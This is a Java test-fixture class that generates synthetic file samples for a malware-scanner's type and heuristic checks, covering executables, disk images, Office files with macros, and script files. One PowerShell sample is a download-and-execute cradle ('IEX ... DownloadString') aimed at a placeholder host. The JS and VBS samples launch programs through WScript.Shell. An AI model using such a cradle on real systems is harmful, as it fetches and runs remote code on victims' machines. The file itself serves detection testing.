package dev.mamori.core.scan.heur;

import org.apache.commons.compress.archivers.zip.ZipArchiveEntry;
import org.apache.commons.compress.archivers.zip.ZipArchiveOutputStream;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;

/** Small synthetic files with the right magic for each type; nothing here runs or is harmful. */
final class Samples {
    private Samples() {
    }

    static byte[] pe() {
        byte[] b = new byte[1024];
        b[0] = 'M';
        b[1] = 'Z';
        ByteBuffer.wrap(b).order(ByteOrder.LITTLE_ENDIAN).putInt(0x3C, 0x80);
        b[0x80] = 'P';
        b[0x81] = 'E';
        return b;
    }

    static byte[] elf() {
        return magic(256, 0x7F, 'E', 'L', 'F', 2, 1, 1);
    }

    static byte[] machO() {
        return magic(256, 0xCF, 0xFA, 0xED, 0xFE, 7, 0, 0, 1);
    }

    static byte[] lnk() {
        return magic(256, 0x4C, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46);
    }

    static byte[] iso() {
        byte[] b = new byte[0x9000];
        System.arraycopy(ascii("CD001"), 0, b, 0x8001, 5);
        return b;
    }

    static byte[] vhd() {
        byte[] b = new byte[4096];
        System.arraycopy(ascii("conectix"), 0, b, 4096 - 512, 8);
        return b;
    }

    static byte[] pdf() {
        return ascii("%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<<>>\n%%EOF\n");
    }

    static byte[] jpeg() {
        byte[] b = magic(2048, 0xFF, 0xD8, 0xFF, 0xE0, 0, 0x10, 'J', 'F', 'I', 'F', 0);
        b[b.length - 2] = (byte) 0xFF;
        b[b.length - 1] = (byte) 0xD9;
        return b;
    }

    static byte[] text() {
        return ascii("Hi all,\nthe minutes of Monday's meeting are below.\n1. Budget\n2. Holidays\n");
    }

    static byte[] js() {
        return ascii("var s = new ActiveXObject('WScript.Shell');\ns.Run('calc');\n");
    }

    static byte[] vbs() {
        return ascii("Dim o\r\nSet o = CreateObject(\"WScript.Shell\")\r\no.Run \"calc\"\r\n");
    }

    static byte[] ps1() {
        return ascii("$u='http://example.invalid/'\nIEX (New-Object Net.WebClient).DownloadString($u)\n");
    }

    static byte[] bat() {
        return ascii("@echo off\r\nstart calc\r\n");
    }

    static byte[] hta() {
        return ascii("<html><head><hta:application id=\"a\"/></head><body></body></html>");
    }

    static byte[] wsf() {
        return ascii("<?xml version=\"1.0\"?>\n<job id=\"x\">\n<script language=\"JScript\">\nWScript.Echo(1);\n"
                + "</script>\n</job>\n");
    }

    static byte[] zip(Object... nameThenContent) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipArchiveOutputStream zip = new ZipArchiveOutputStream(out)) {
            for (int i = 0; i < nameThenContent.length; i += 2) {
                zip.putArchiveEntry(new ZipArchiveEntry((String) nameThenContent[i]));
                zip.write((byte[]) nameThenContent[i + 1]);
                zip.closeArchiveEntry();
            }
        }
        return out.toByteArray();
    }

    static byte[] docx(boolean withMacros) throws IOException {
        return withMacros
                ? zip("[Content_Types].xml", ascii("<Types/>"), "word/document.xml", ascii("<w:document/>"),
                "word/vbaProject.bin", Ole2Files.compound("/VBA", "_VBA_PROJECT", "dir", "ThisDocument"))
                : zip("[Content_Types].xml", ascii("<Types/>"), "word/document.xml", ascii("<w:document/>"),
                "docProps/core.xml", ascii("<cp:coreProperties/>"));
    }

    static byte[] xlsx(boolean excel4Macros) throws IOException {
        return excel4Macros
                ? zip("[Content_Types].xml", ascii("<Types/>"), "xl/workbook.xml", ascii("<workbook/>"),
                "xl/macrosheets/sheet1.xml", ascii("<xm:macrosheet/>"))
                : zip("[Content_Types].xml", ascii("<Types/>"), "xl/workbook.xml", ascii("<workbook/>"),
                "xl/worksheets/sheet1.xml", ascii("<worksheet/>"));
    }

    static byte[] ascii(String s) {
        return s.getBytes(StandardCharsets.ISO_8859_1);
    }

    private static byte[] magic(int size, int... bytes) {
        byte[] b = new byte[size];
        for (int i = 0; i < bytes.length; i++) {
            b[i] = (byte) bytes[i];
        }
        return b;
    }
}
